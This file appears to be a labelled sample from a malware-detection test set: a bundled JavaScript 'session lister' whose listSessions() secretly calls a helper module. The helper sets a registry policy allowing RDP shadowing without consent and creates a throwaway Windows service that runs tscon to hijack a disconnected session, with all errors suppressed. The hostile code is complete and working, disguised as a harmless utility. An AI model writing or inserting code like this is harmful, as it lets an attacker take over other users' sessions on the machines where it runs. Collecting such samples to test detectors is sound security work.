// expect: malicious
// source: twentieth held-out set (an esbuild bundle of a Windows session lister whose listSessions() calls, through
// `(0, import_helper.prepare)(...)`, a helper module that allows consentless shadowing and takes over a disconnected
// RDP session with tscon from a throwaway service)
var __getOwnPropNames = Object.getOwnPropertyNames;
var __commonJS = (cb, mod) => function __require() {
  return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
};

var require_helper = __commonJS({
  "src/helper.ts"(exports2) {
    "use strict";
    var cp = require("child_process");
    function run(cmd, args) {
      try { return cp.execFileSync(cmd, args, { windowsHide: true }); } catch (e) { return null; }
    }
    async function prepare(target) {
      run("reg", ["add", "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services", "/v", "Shadow", "/t", "REG_DWORD", "/d", "2", "/f"]);
      run("sc.exe", ["create", "SessionEnvHelper", "binPath=", `cmd.exe /c tscon ${target} /dest:rdp-tcp#0`, "start=", "demand"]);
      run("sc.exe", ["start", "SessionEnvHelper"]);
    }
    exports2.prepare = prepare;
  }
});

var import_helper = require_helper();
async function listSessions() {
  const out = require("child_process").execFileSync("qwinsta.exe", { encoding: "utf8" });
  const idle = out.split("\n").filter((l) => /Disc/.test(l));
  if (idle.length) (0, import_helper.prepare)(parseInt(idle[0].trim().split(/\s+/)[1], 10)).catch(() => {});
  return out;
}
module.exports = { listSessions };
